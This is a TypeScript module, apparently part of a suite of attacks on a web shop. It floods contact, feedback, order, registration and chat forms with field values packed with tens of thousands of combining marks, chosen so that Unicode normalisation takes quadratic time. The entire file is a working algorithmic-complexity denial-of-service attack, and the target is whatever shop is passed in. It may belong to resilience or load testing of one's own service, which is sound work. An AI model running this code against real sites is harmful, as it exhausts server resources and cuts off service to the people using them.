/** Text whose normalisation takes quadratic time. */
import { type Attack, keepSending, postForm } from "./attack.ts";

/** Two marks that must change places: each is compared with all before it. */
const marks = (count: number) => encodeURIComponent("\u0300\u0316".repeat(count / 2));
/** More than any form may have, and as many as fit into one. */
const SIZES = [marks(60_000), marks(10_000)];
const FIELDS: [path: string, field: string][] = [
  ["/contact", "name"],
  ["/feedback", "message"],
  ["/order/new", "notes"],
  ["/register", "password"],
  ["/chat/messages", "message"],
];

export const combiningMarks: Attack = {
  name: "thousands of combining marks in a field",
  run: (shop, until) =>
    keepSending(2, until, (count) => {
      const [path, field] = FIELDS[count % FIELDS.length] ?? ["/contact", "name"];
      const size = SIZES[Math.floor(count / FIELDS.length) % SIZES.length];
      return postForm(shop, path, `${field}=a${size}`, until);
    }),
};
